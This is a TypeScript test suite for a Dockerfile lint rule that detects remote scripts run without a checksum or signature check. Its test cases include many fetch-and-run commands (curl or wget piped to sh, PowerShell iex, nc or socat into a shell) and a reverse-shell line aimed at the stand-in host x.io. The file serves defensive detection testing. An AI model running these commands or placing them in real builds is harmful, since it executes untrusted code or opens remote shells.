import { remoteScriptExecuted } from '../../../src/rules/dockerfile/remote-script-executed.ts';
import { testRule } from '../../support/rule-tester.ts';

const run = (script: string): string => `FROM debian:13\nRUN ${script}\n`;

testRule(remoteScriptExecuted, {
  valid: {
    'a port that is only tried, by the shell itself': run(
      "bash -c '</dev/tcp/db/5432'; timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'; exec 3<>/dev/tcp/x.io/80; grep -q OK <&3",
    ),
    'a connection to the container itself': "FROM a\nHEALTHCHECK CMD bash -c 'exec 3<>/dev/tcp/localhost/80; sh <&3'\n",
    'a here-document that loads data':
      'FROM a\nRUN python3 <<EOF\nimport urllib.request as u, json\nprint(json.load(u.urlopen("https://x.io/a.json")))\nEOF\n',
    'options in a variable of several words':
      'FROM a\nARG OPTS="-y --no-install-recommends"\nARG GET="curl -fsSLO"\nRUN apt-get install $OPTS curl && $GET https://x.io/a.tgz\n',
    'names and stores that are only asked': run(
      'dig +short TXT x.io | grep v=spf1; gsutil cat gs://x/a.json | jq .; ssh x.io true; gh api user | jq .',
    ),
    'what is sourced from a file': run(
      '. /etc/os-release; source ./env.sh; trap "rm -f /tmp/x" EXIT; $(command -v sh) ./x.sh; deno run ./main.ts',
    ),
    'a file that a later instruction checks before it runs':
      'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN echo "abc  /tmp/x" | sha256sum -c - && sh /tmp/x\n',
    'a file that an instruction in between checks': 'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN sha256sum -c /sums\nRUN sh /tmp/x\n',
    'a file that was checked where it was loaded':
      'FROM a\nRUN curl -o /tmp/x https://x.io/x && echo "abc  /tmp/x" | sha256sum -c\nRUN sh /tmp/x\n',
    'a file that is overwritten in between': 'FROM a\nRUN curl -o /x https://x.io/x\nCOPY x /x\nRUN sh /x\nRUN echo a > /x; sh /x\n',
    'a file of the same name in another folder': 'FROM a\nRUN curl -o /tmp/x.sh https://x.io/x.sh\nRUN sh /opt/x.sh\n',
    'a file that another stage loads': 'FROM a\nRUN curl -o /tmp/x https://x.io/x\nFROM b\nRUN sh /tmp/x\n',
    'a program that is loaded and started': 'FROM a\nADD https://x.io/tini /tini\nRUN chmod +x /tini\nENTRYPOINT ["/tini", "--"]\n',
    'a file with a checksum': `FROM a\nADD --checksum=sha256:${'a'.repeat(64)} https://x.io/x.sh /x.sh\nRUN sh /x.sh\n`,
    'data that a later instruction reads': 'FROM a\nRUN curl -o /d.json https://x.io/d.json\nRUN jq . /d.json && cat /d.json\n',
    'a program that asks whether a server is there':
      "FROM a\nHEALTHCHECK CMD node -e \"require('http').get('http://localhost:80', r => process.exit(r.statusCode === 200 ? 0 : 1))\"\nRUN python -c \"import requests; print(requests.get('https://x.io').text)\"\n",
    'a server that waits, and a connection that is only tried': 'FROM a\nRUN nc -l 80 | sh\nRUN nc -z db 5432 && openssl dgst x | sh\n',
    'a descriptor that is opened and not read': run("bash -c 'exec 3< <(curl https://x.io/i.sh); cat <&3; bash <&4'"),
    'a here-document that nobody runs': 'FROM a\nCOPY <<EOF /usr/share/doc/install.txt\ncurl https://x.io/i.sh | sh\nEOF\n',
    'a script that is printed for people': 'FROM a\nRUN echo "curl https://x.io/i.sh | sh"\n',
    'lines of a download that are read and shown': 'FROM a\nRUN curl https://x.io/list | while read -r l; do echo "$l"; done\n',
    'a function that is given a list': 'FROM a\nRUN get() { curl -fsSLO "$1"; }; get https://x.io/list.txt\n',
    'a hash that an interpreter compares': run(
      "curl -o c.php https://x.io/installer && HASH=$(curl https://x.io/sig) && php -r \"if (hash_file('SHA384', 'c.php') !== '$HASH') exit(1);\" && php c.php",
    ),
    'a file that is checked': run('curl -fsSLo i.sh https://x.io/i.sh && echo "abc  i.sh" | sha256sum -c - && sh i.sh'),
    'a file that is checked against a list': run(
      'curl -fsSLO https://x.io/i.sh && curl -fsSLO https://x.io/SHA256SUMS && sha256sum -c --ignore-missing SHA256SUMS && sh i.sh',
    ),
    'a signature that is checked': run('wget https://x.io/i.sh https://x.io/i.sh.asc && gpg --verify i.sh.asc i.sh && bash i.sh'),
    'a checksum from a variable over continued lines':
      'FROM debian:13\nARG SUM\nRUN wget -q https://x.io/Mini.sh -O /tmp/mini.sh \\\n  && echo "${SUM} */tmp/mini.sh" | sha256sum --check --status \\\n  && bash /tmp/mini.sh -b\n',
    text: run('echo "curl https://x.io | sh"'),
    'a download that is only stored': run('curl -fsSL https://x.io/a.json -o a.json && cat a.json'),
    'data that programs read': run(
      "curl -s https://x.io/a.json | python3 -c 'import json' && curl -s https://x.io | python -m json.tool && curl -s https://x.io | jq . && curl -s https://x.io | node -e 'x' && curl https://x.io | perl -pe 's/a/b/'",
    ),
    'data that scripts get': run(
      'curl -s https://x.io | bash ./import.sh && curl -s https://x.io | python import.py && bash x.sh "$(curl -s https://x.io/version)"',
    ),
    'a value in a variable': run('V=$(curl -s https://x.io/version); sh -c "echo $V"; eval "$OTHER"; W=$V sh -c "x $W"'),
    'a value in a script': run('sh -c "echo $(curl -s https://x.io/version)"; eval "V=$(curl -s https://x.io)"'),
    'archives and keys': run(
      'curl -fsSL https://x.io/a.tgz | tar xz && curl https://x.io/k.gpg | gpg --dearmor -o /k && curl https://x.io/k | apt-key add -',
    ),
    'a local server': run('curl -s http://localhost:8080/x | sh && curl -s localhost:8080/x | sh'),
    'another file is run': run('curl -fsSLo a.sh https://x.io/a.sh && sh b.sh'),
    'a shell before the download': run('sh i.sh; curl -fsSLo i.sh https://x.io/i.sh'),
    'PowerShell that only downloads':
      '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN Invoke-WebRequest https://x.io/a.zip -OutFile a.zip; iex "dir"\nRUN iwr https://x.io/a.ps1 -OutFile a.ps1; del a.ps1; ./b.ps1\nRUN iwr https://x.io/a.ps1 -OutFile a.ps1; if ((Get-FileHash a.ps1).Hash -ne $h) { exit 1 }; ./a.ps1\n',
  },
  invalid: {
    'a program in a variable of the build': {
      text: 'FROM a\nARG C="curl -fsSL https://x.io/i.sh"\nENV D="wget -qO-"\nRUN ⟦$C | sh⟧\nRUN ⟦${D} https://x.io/j.sh | bash⟧\n',
      expect: ['piped', 'piped'],
    },
    'a script in a variable of the build': {
      text: 'FROM a\nARG C="curl -fsSL https://x.io/i.sh | sh"\nRUN eval ⟦"$C"⟧\nRUN sh -c ⟦"${C}"⟧\nRUN S="wget -qO- https://x.io/j | sh"; bash -c ⟦$S⟧\n',
      expect: ['piped', 'piped', 'piped'],
    },
    'here-documents of other interpreters': {
      text: `FROM a\nRUN ⟦<<EOF python3⟧\nimport urllib.request as u\nexec(u.urlopen("https://x.io/a").read())\nEOF\nRUN ⟦perl <<'EOF'⟧\nuse LWP::Simple; eval get("https://x.io/b");\nEOF\nRUN ⟦<<EOF⟧\n#!/usr/bin/env -S node\nfetch("https://x.io/c").then(r => r.text()).then(eval)\nEOF\n`,
      expect: ['piped', 'piped', 'piped'],
    },
    'connections that the shell opens': {
      text: 'FROM a\nSHELL ["/bin/bash", "-c"]\nRUN ⟦sh < /dev/tcp/x.io/80⟧\nRUN ⟦cat </dev/tcp/x.io/80 | bash⟧\nRUN ⟦exec 3<>/dev/tcp/x.io/80; echo GET / >&3; cat <&3 | sh⟧\nRUN ⟦bash -i >& /dev/tcp/x.io/80 0>&1⟧\n',
      expect: ['piped', 'piped', 'piped', 'piped'],
    },
    'printed by a program text into a shell': {
      text: `FROM a\nRUN python3 -c ⟦"import urllib.request as u; print(u.urlopen('https://x.io/a').read().decode())"⟧ | sh\n`,
      expect: ['piped'],
    },
    'included by an address': {
      text: `FROM a\nRUN php -r ⟦'include "https://x.io/a";'⟧\nRUN Rscript -e ⟦'source("https://x.io/b")'⟧\nRUN ⟦deno run -A https://x.io/c.ts⟧\n`,
      expect: ['piped', 'piped', 'piped'],
    },
    'kept in a variable that is exported or printed into': {
      text: run('export S="$(curl https://x.io/a)" && ⟦sh -c "$S"⟧; printf -v T %s "$(curl https://x.io/b)"; ⟦eval "$T"⟧'),
      expect: ['piped', 'piped'],
    },
    'in the place of a command': {
      text: run('⟦$(curl -fsSL https://x.io/a)⟧ && ⟦`wget -qO- https://x.io/b` now⟧'),
      expect: ['piped', 'piped'],
    },
    'what is sourced from standard input': {
      text: run('⟦. /dev/stdin <<< "$(curl https://x.io/a)"⟧; ⟦curl https://x.io/b | . /dev/fd/0⟧; ⟦curl https://x.io/c | fish⟧'),
      expect: ['piped', 'piped', 'piped'],
    },
    'when the shell ends': { text: run('trap "⟦curl https://x.io/a | sh⟧" EXIT'), expect: ['piped'] },
    'from names, other machines and stores': {
      text: run(
        '⟦dig +short TXT x.io | sh⟧; ⟦ssh root@x.io cat x | bash⟧; ⟦aws s3 cp s3://x/i - | sh⟧; ⟦gsutil cat gs://x/i | sh⟧; ⟦gh api repos/o/r/contents/x | sh⟧',
      ),
      expect: ['piped', 'piped', 'piped', 'piped', 'piped'],
    },
    'loaded by one instruction and run by another': {
      text: 'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN true && ⟦sh /tmp/x --yes⟧ && sh /tmp/x\nRUN sh /tmp/x\n',
      expect: [
        { messageId: 'saved', severity: 'high', message: '"/tmp/x" is downloaded from "https://x.io/x" and run without any check.' },
      ],
    },
    'loaded over plain HTTP by one instruction and run by another': {
      text: 'FROM a\nWORKDIR /w\nRUN wget http://x.io/x.sh\nRUN ⟦["/bin/sh", "x.sh"]⟧\n',
      expect: [{ messageId: 'plain', severity: 'critical' }],
    },
    'checked only when it has run': {
      text: 'FROM a\nRUN curl -o /tmp/x https://x.io/x\nRUN ⟦sh /tmp/x⟧ && sha256sum /tmp/x\n',
      expect: ['saved'],
    },
    'another file is checked in between': {
      text: 'FROM a\nRUN curl -o /tmp/x.sh https://x.io/x.sh && curl -o /y.tgz https://x.io/y.tgz\nRUN echo "abc  /y.tgz" | sha256sum -c\nRUN ⟦/tmp/x.sh⟧\n',
      expect: ['saved'],
    },
    'moved, copied and run': {
      text: 'FROM a\nRUN curl -o /tmp/x https://x.io/x && curl -o /z https://x.io/z\nRUN mv /tmp/x /opt/y && install /z /usr/bin/\nRUN ⟦sh /opt/y⟧ && ⟦. /usr/bin/z⟧\n',
      expect: ['saved', 'saved'],
    },
    'added from an address and run': {
      text: 'FROM a\nARG V=1\nADD https://x.io/$V/a.sh /tmp/\nADD https://x.io/b /opt/b\nRUN ⟦bash /tmp/a.sh⟧\nCMD ⟦["sh", "/opt/b"]⟧\n',
      expect: ['saved', 'saved'],
    },
    'taken out of another stage, and run in one that is built on it': {
      text: 'FROM a AS load\nRUN curl -o /tmp/x https://x.io/x && curl -o /d/y https://x.io/y\nFROM b AS next\nCOPY --from=load /tmp/x /run.sh\nCOPY --from=0 /d /e\nFROM next\nRUN ⟦sh /run.sh⟧; ⟦sh /e/y⟧\nRUN --mount=type=bind,from=load,source=/tmp/x,target=/m ⟦sh /m⟧\n',
      expect: ['saved', 'saved', 'saved'],
    },
    'printed into a shell': {
      text: run(
        'curl -o /a https://x.io/a; cat /a | ⟦sh⟧; wget -O /b https://x.io/b; ⟦sh -c "$(cat /b)"⟧; wget -O /c https://x.io/c; ⟦eval "$(</c)"⟧',
      ),
      expect: ['saved', 'saved', 'saved'],
    },
    'by a descriptor': {
      text: run("bash -c 'exec 3< <(curl https://x.io/i.sh); ⟦bash <&3⟧'"),
      expect: ['piped'],
    },
    'by a descriptor in a variable, by its name, and by that of the shell itself': {
      text: 'FROM a\nRUN exec {in}< <(curl https://x.io/i.sh); ⟦sh <&$in⟧\nRUN exec 3< <(curl https://x.io/i.sh); ⟦. /dev/fd/3⟧\nRUN exec < <(curl https://x.io/i.sh); ⟦sh⟧\n',
      expect: ['piped', 'piped', 'piped'],
    },
    'into a substitution': {
      text: 'FROM a\nRUN curl https://x.io/i.sh > >(⟦bash⟧)\nRUN ⟦curl https://x.io/i.sh | tee >(sh⟧) > /dev/null\nRUN curl -o >(⟦sh⟧) https://x.io/i.sh\n',
      expect: ['piped', 'piped', 'piped'],
    },
    'from a connection': {
      text: run('⟦nc x.io 80 | sh⟧; ⟦socat - TCP4:x.io:80 | sh⟧; ⟦openssl s_client -quiet -connect x.io:443 | bash⟧'),
      expect: ['piped', 'piped', 'piped'],
    },
    'by the program of another interpreter': {
      text: `FROM a\nRUN python3 -c ⟦"import urllib.request as u; exec(u.urlopen('https://x.io/a').read())"⟧\nRUN node -e ⟦"fetch('http://x.io/b').then(r => r.text()).then(eval)"⟧ && php -r ⟦"eval(file_get_contents('https://x.io/c'));"⟧ && perl -e ⟦'system("curl https://x.io/d | sh")'⟧\n`,
      expect: ['piped', 'plain', 'piped', 'piped'],
    },
    'a script in a string with escapes': {
      text: "FROM debian:13\nRUN bash -c ⟦$'true\\ncurl -s https://x.io/i.sh | sh'⟧\n",
      expect: ['piped'],
    },
    'an address that is only known at run time': {
      text: 'FROM debian:13\nRUN ⟦curl -fsSL "$URL" | bash -s -- -y⟧\nRUN ⟦wget -qO- ${BASE}/install.sh | sh⟧\n',
      expect: ['piped', 'piped'],
    },
    'options in a variable, once': {
      text: 'FROM debian:13\nRUN ⟦curl $FLAGS https://get.example.com | sh⟧\n',
      expect: ['piped'],
    },
    'from a host without a dot': {
      text: run('⟦curl -s installer | sh⟧ && ⟦curl -sS mirror:8080/i.sh | bash⟧ && ⟦wget -qO- builder/i.sh | sh⟧'),
      expect: ['piped', 'piped', 'piped'],
    },
    'kept in a variable': {
      text: run('SETUP="$(curl -fsSL https://x.io/i.sh)" && ⟦eval "$SETUP"⟧; A=$(curl https://x.io/a) && ⟦bash -c "$A"⟧'),
      expect: ['piped', 'piped'],
    },
    'with its errors thrown away': {
      text: run('⟦wget -O - https://x.io/i.sh 2>/dev/null | bash⟧ && ⟦curl -v https://x.io/i.sh 2>> log | sh⟧'),
      expect: ['piped', 'piped'],
    },
    'piped into a shell': {
      text: run('⟦curl -fsSL https://x.io/i.sh | sh⟧'),
      expect: [{ messageId: 'piped', severity: 'high', message: '"sh" runs what "https://x.io/i.sh" sends, without any check.' }],
    },
    'over plain HTTP': {
      text: run('⟦curl http://x.io/i.sh | sh⟧ && ⟦curl -sL x.io/i | sh⟧ && ⟦wget -qO- ftp://x.io/i | sh⟧'),
      expect: [{ messageId: 'plain', severity: 'critical' }, 'plain', 'plain'],
    },
    'at a commit': {
      text: run('⟦curl https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/i.sh | sh⟧'),
      expect: [{ messageId: 'pinned', severity: 'medium' }],
    },
    'with sudo, arguments, filters and continued lines': {
      text: 'FROM debian:13\nRUN apt-get update && \\\n  ⟦curl -sL https://deb.x.io/setup \\\n  # as root\n  | sudo -E bash -⟧ && \\\n  true\nRUN ⟦wget -qO- https://x.io | tee i.sh | bash -s -- --yes⟧\n',
      expect: ['piped', 'piped'],
    },
    'into other interpreters': {
      text: run(
        '⟦curl -sS https://x.io | python3⟧ && ⟦curl https://x.io | python -⟧ && ⟦curl -sS https://getcomposer.org/installer | php -- --install-dir=/x⟧ && ⟦curl -L https://cpanmin.us | perl - App::cpanminus⟧ && ⟦wget -O - https://x.io | node⟧ && ⟦curl https://x.io | ruby⟧',
      ),
      expect: ['piped', 'piped', 'piped', 'piped', 'piped', 'piped'],
    },
    'in process substitutions': {
      text: run(
        '⟦bash <(curl -s https://x.io)⟧ && ⟦. <(wget -qO- https://x.io)⟧ && ⟦source <(curl https://x.io)⟧ && ⟦sh < <(curl https://x.io)⟧',
      ),
      expect: ['piped', 'piped', 'piped', 'piped'],
    },
    'in command substitutions': {
      text: run(
        '⟦sh -c "$(curl -fsSL https://x.io)"⟧ && ⟦eval "$(curl https://x.io)"⟧ && ⟦bash -ec "`wget -qO- https://x.io`"⟧ && ⟦python -c "$(curl https://x.io)"⟧ && ⟦bash <<< "$(curl https://x.io)"⟧',
      ),
      expect: ['piped', 'piped', 'piped', 'piped', 'piped'],
    },
    'saved and run': {
      text: run('curl -fsSLo /tmp/i.sh https://x.io/i.sh && ⟦sh /tmp/i.sh --yes⟧ && rm /tmp/i.sh'),
      expect: [{ messageId: 'saved', message: '"/tmp/i.sh" is downloaded from "https://x.io/i.sh" and run without any check.' }],
    },
    'saved under the name in the address': {
      text: run('wget https://x.io/Miniconda3.sh && ⟦bash Miniconda3.sh -b⟧ && curl -O https://x.io/get-pip.py && ⟦python3 get-pip.py⟧'),
      expect: ['saved', 'saved'],
    },
    'saved by redirect, made executable and run': {
      text: run('curl https://x.io/i > i && chmod +x i && ⟦./i⟧ && wget -O "$D/run.bin" https://x.io/r && ⟦"$D/run.bin" -q⟧'),
      expect: ['saved', 'saved'],
    },
    'the name has a variable': {
      text: 'FROM debian:13\nARG V\nRUN wget https://x.io/setup-${V}.sh && ⟦sh setup-${V}.sh⟧\n',
      expect: ['saved'],
    },
    'another download is checked': {
      text: run('curl -o a.tgz https://x.io/a.tgz && echo "abc a.tgz" | sha256sum -c && curl -o i.sh https://x.io/i.sh && ⟦sh i.sh⟧'),
      expect: ['saved'],
    },
    'in scripts, here-documents, functions, loops and exec forms': {
      text: 'FROM debian:13\nRUN bash -c "⟦curl https://x.io | sh⟧"\nRUN <<EOF\nset -e\n⟦curl https://x.io | sh⟧\nEOF\nRUN ["/bin/bash", "-c", "⟦curl https://x.io | sh⟧"]\nRUN if true; then ⟦curl https://x.io | sh⟧; fi\nCMD ⟦curl https://x.io | sh⟧\n',
      expect: ['piped', 'piped', 'piped', 'piped', 'piped'],
    },
    'the address is a variable of the file': {
      text: 'FROM debian:13\nARG URL=http://x.io/i.sh\nRUN ⟦curl $URL | sh⟧\n',
      expect: ['plain'],
    },
    PowerShell: {
      text: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN ⟦iex ((New-Object System.Net.WebClient).DownloadString⟧(\'https://x.io/install.ps1\'))\nRUN ⟦iwr -useb get.x.io | iex⟧\n',
      expect: ['powershell', 'powershell'],
    },
    'PowerShell that runs what it saved': {
      text: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN Invoke-WebRequest https://x.io/install.ps1 -OutFile C:\\a\\i.ps1; `\n    & ⟦C:\\a\\i.ps1⟧ -Version 1; del i.ps1\nRUN iwr -OutFile j.ps1 http://x.io/j; powershell -File "⟦.\\j.ps1⟧"\nRUN iwr -o k.ps1 https://x.io/$env:V/k.ps1; . ⟦./k.ps1⟧\n',
      expect: [
        { messageId: 'saved', message: '"i.ps1" is downloaded from "https://x.io/install.ps1" and run without any check.' },
        'plain',
        'saved',
      ],
    },
    'PowerShell that runs a file before it saves another one under its name, and again after it': {
      text: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN ./i.ps1; iwr https://x.io/i.ps1 -OutFile i.ps1; ⟦./i.ps1⟧; ./i.ps1\n',
      expect: ['saved'],
    },
    'PowerShell called from cmd': {
      text: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\nRUN powershell -Command "⟦Invoke-Expression (Invoke-RestMethod⟧ https://x.io)"\n',
      expect: ['powershell'],
    },
    'a health check': { text: 'FROM a\nHEALTHCHECK --interval=5m CMD ⟦curl -fsSL https://x.io/i.sh | sh⟧\n', expect: ['piped'] },
    'a function that is called, twice': { text: 'FROM a\nRUN f() { ⟦curl https://x.io/i.sh | sh⟧; }; f; f\n', expect: ['piped'] },
    'a function that is not called here': { text: 'FROM a\nRUN f() { ⟦curl https://x.io/i.sh | sh⟧; }\n', expect: ['piped'] },
    'a function that downloads': { text: 'FROM a\nRUN f() { ⟦curl https://x.io/i.sh; }; f | sh⟧\n', expect: ['piped'] },
    'a function that runs its input': { text: 'FROM a\nRUN function g { ⟦sh; }; curl https://x.io/i.sh⟧ | g\n', expect: ['piped'] },
    'a function that runs its arguments': {
      text: 'FROM a\nRUN try() { "$@"; }; ⟦try curl https://x.io/i.sh | try sh⟧\n',
      expect: ['piped'],
    },
    'functions that call each other': { text: 'FROM a\nRUN a() { b; }; b() { ⟦curl https://x.io/i.sh; }; a | sh⟧\n', expect: ['piped'] },
    'lines that are read and run': {
      text: 'FROM a\nRUN ⟦curl https://x.io/i.sh | while IFS= read -r line; do eval "$line"⟧; done\n',
      expect: ['piped'],
    },
    'lines that are read from a substitution and run': {
      text: 'FROM a\nRUN while read l; do ⟦sh -c "$l"; done < <(curl https://x.io/i.sh⟧)\n',
      expect: ['piped'],
    },
    'lines that are read from a download and run': {
      text: 'FROM a\nRUN curl -o /tmp/i https://x.io/i.sh; while read l; do ⟦eval $l⟧; done < /tmp/i\n',
      expect: ['saved'],
    },
    'lines that are mapped and run': {
      text: 'FROM a\nRUN mapfile -t a < <(curl https://x.io/i.sh); ⟦eval "${a[@]}"⟧\n',
      expect: ['piped'],
    },
    'a here-document that is written and run': {
      text: 'FROM a\nRUN cat <<EOF > /x\n⟦curl https://x.io/i.sh | sh⟧\nEOF\nRUN sh /x\n',
      expect: ['piped'],
    },
    'a here-document that is copied and run': {
      text: 'FROM a\nCOPY --chmod=755 <<"EOF" /opt/go\n⟦curl https://x.io/i.sh | sh⟧\nEOF\nENTRYPOINT ["/opt/go"]\n',
      expect: ['piped'],
    },
    'a here-document that is copied into a folder': {
      text: 'FROM a\nCOPY <<go.sh /opt/\n⟦curl https://x.io/i.sh | sh⟧\ngo.sh\n',
      expect: ['piped'],
    },
    'a script that is printed into a shell': {
      text: 'FROM a\nRUN printf ⟦"curl https://x.io/i.sh | sh"⟧ | sh\n',
      expect: ['piped'],
    },
  },
});
